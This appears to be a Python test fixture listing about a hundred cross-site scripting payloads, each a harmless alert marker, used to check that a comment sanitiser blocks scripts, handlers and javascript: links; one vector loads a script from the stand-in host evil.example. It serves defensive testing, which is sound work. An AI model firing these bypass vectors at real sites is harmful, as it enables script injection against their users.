"""Hostile comment bodies: each tries to run a script in a reader's browser, or to carry an
attribute, tag or address past the comment allowlist (stoa.core.sanitizers).

Every payload sets `window.__xss` and opens an alert, so that a script that runs anywhere
is seen by the test (the flag, the dialog), whatever Content-Security-Policy would have
blocked: the test reads the pages with CSP bypassed too.
"""

from __future__ import annotations

JS = "window.__xss=1;alert(1)"
# Base64 of the same payload, for the eval(atob(...)) vectors.
JS_B64 = "d2luZG93Ll9feHNzPTE7YWxlcnQoMSk="
# javascript: spelled with HTML character references.
JS_DECIMAL = "".join(f"&#{ord(c)};" for c in "javascript:")
JS_HEX = "".join(f"&#x{ord(c):X};" for c in "javascript:")
JS_PADDED = "".join(f"&#00{ord(c)}" for c in "javascript:")

VECTORS: list[str] = [
    # --- script elements
    f"<script>{JS}</script>",
    f"<SCRIPT>{JS}</SCRIPT>",
    f'<script src="data:text/javascript,{JS}"></script>',
    f"<script/xss src=//evil.example/x.js>{JS}</script>",
    f"<<script>{JS};//<</script>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<script>{JS}</script",
    f"<script\n>{JS}</script\n>",
    f"<code><script>{JS}</script></code>",
    # --- event handlers, on allowed and forbidden tags
    f'<img src=x onerror="{JS}">',
    f"<img src=x:x onerror=eval(atob('{JS_B64}'))>",
    f'<b onmouseover="{JS}">bold with a handler</b>',
    f'<a href="https://example.com/" onclick="{JS}">a link with a handler</a>',
    f'<svg onload="{JS}">',
    f'<body onload="{JS}">',
    f'<details open ontoggle="{JS}"><summary>s</summary></details>',
    f'<input autofocus onfocus="{JS}">',
    f'<em tabindex="0" autofocus onfocus="{JS}">focused emphasis</em>',
    f'<abbr title="x" onmouseenter="{JS}">abbr with a handler</abbr>',
    f'<video><source onerror="{JS}"></video>',
    f"<audio src=x onerror={JS}>",
    f'<marquee onstart="{JS}">marquee</marquee>',
    f'<div popover id=p1 onbeforetoggle="{JS}">popover</div>',
    f'<x-custom onclick="{JS}">custom element</x-custom>',
    f'<strong style="background:url(javascript:{JS})" onpointerenter="{JS}">styled</strong>',
    f'<del datetime="2024-01-01" onclick="{JS}">deleted</del>',
    # --- frames, objects, forms, meta and base
    f'<iframe srcdoc="<script>parent.{JS}</script>"></iframe>',
    f'<iframe src="javascript:{JS}"></iframe>',
    f'<object data="javascript:{JS}"></object>',
    f'<embed src="javascript:{JS}">',
    f'<form action="javascript:{JS}"><button>go</button></form>',
    f'<button formaction="javascript:{JS}">button</button>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{JS}">',
    f'<base href="javascript:{JS}//">',
    f"<style>@import 'javascript:{JS}';</style>",
    f'<link rel="stylesheet" href="javascript:{JS}">',
    f"<template><img src=x onerror={JS}></template>",
    f"<isindex action=javascript:{JS} type=image>",
    # --- javascript:, data: and other schemes in href and cite
    f'<a href="javascript:{JS}">javascript link</a>',
    f'<a href="JaVaScRiPt:{JS}">mixed case</a>',
    f'<a href=" \tjavascript:{JS}">leading space and tab</a>',
    f'<a href="java\tscript:{JS}">tab inside</a>',
    f'<a href="java&#x09;script:{JS}">encoded tab inside</a>',
    f'<a href="{JS_DECIMAL}{JS}">decimal references</a>',
    f'<a href="{JS_HEX}{JS}">hex references</a>',
    f'<a href="{JS_PADDED}{JS}">padded references</a>',
    f'<a href="javascript&colon;{JS}">named colon</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
    '<a href="vbscript:msgbox(1)">vbscript link</a>',
    f'<blockquote cite="javascript:{JS}">quoted with a script source</blockquote>',
    f'<q cite="data:text/html,<script>{JS}</script>">quote with a data source</q>',
    f'<a href="mailto:a@example.com?body=<script>{JS}</script>">mail</a>',
    f'<img src="javascript:{JS}">',
    # --- SVG and MathML
    f"<svg><script>{JS}</script></svg>",
    f'<svg><a xlink:href="javascript:{JS}"><text x="20" y="20">svg link</text></a></svg>',
    f'<svg><animate onbegin="{JS}" attributeName="x" dur="1s"/></svg>',
    f'<svg><set attributeName="href" to="javascript:{JS}"/></svg>',
    f'<math href="javascript:{JS}">math link</math>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{JS}">',
    f'<svg></p><style><a id="</style><img src=1 onerror={JS}>">',
    f'<math><mi xlink:href="data:x,<script>{JS}</script>">mi</mi></math>',
    f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
    f'<img onerror={JS} src>">',
    # --- broken and nested markup, attribute breakouts
    f'<b><i><a href="https://example.com" title=""\'"><img src=x onerror={JS}>">nested</a></i></b>',
    f'<a href="https://example.com" title="x" " onmouseover="{JS}">broken quotes</a>',
    f'<a title="</a><img src=x onerror={JS}>" href="https://example.com">title breakout</a>',
    f"<abbr title='x' onmouseover='{JS}'>single quotes</abbr>",
    f"<a href=https://example.com onmouseover={JS}>unquoted</a>",
    f'<a href="https://example.com/"onmouseover="{JS}">no space before the handler</a>',
    f'<a/href="https://example.com"/onclick="{JS}">slashes for spaces</a>',
    f'<abbr title="&quot; onmouseover=&quot;{JS}">entity quote in a title</abbr>',
    f'<del datetime=""><img src=x onerror={JS}>">datetime breakout</del>',
    f'<q cite="https://example.com/" onmouseover="{JS}">cite and a handler</q>',
    '<a href="https://example.com/" style="position:fixed;inset:0" id="comments" '
    'class="skip-link" target="_blank" rel="opener">style, id, class, target</a>',
    f'<img src="x` `<script>{JS}</script>"` `>',
    f'<!--<img src="--><img src=x onerror={JS}//">',
    f"<![CDATA[<img src=x onerror={JS}>]]>",
    f'<noscript><p title="</noscript><img src=x onerror={JS}>"></noscript>',
    f'<textarea><img title="</textarea><img src=x onerror={JS}>"></textarea>',
    f'<title><img title="</title><img src=x onerror={JS}>"></title>',
    f'<xmp><img title="</xmp><img src=x onerror={JS}>"></xmp>',
    f"<blockquote><blockquote><blockquote><script>{JS}</script></blockquote>",
    '<p><b>unclosed <i>tags <a href="https://example.com">everywhere',
    f"</p></li></ol></section><script>{JS}</script>",
    f"</div></article></li><img src=x onerror={JS}>",
    "<p>" + "<b>" * 150 + "deep" + "</b>" * 150 + "</p>",
    # --- encoded and look-alike markup
    f"&lt;script&gt;{JS}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={JS}&amp;gt;",
    f"&#60;img src=x onerror={JS}&#62;",
    f"\\u003cscript\\u003e{JS}\\u003c/script\\u003e",
    f"%3Cscript%3E{JS}%3C%2Fscript%3E",
    f"\uff1cscript\uff1e{JS}\uff1c/script\uff1e",
    # --- bare addresses, which the sanitiser turns into links
    f'https://example.com/"onmouseover="{JS}',
    f"www.example.com/'onmouseover='{JS}'",
    f"http://example.com/<script>{JS}</script>",
    f"https://example.com/?q=&quot;onfocus=&quot;{JS}",
    f'https://example.com/" autofocus onfocus="{JS}',
    f"javascript:{JS}",
    f'<a href="https://example.com/x">https://example.com/"onclick="{JS}</a>',
    f"https://example.com/<img src=x onerror={JS}>",
]
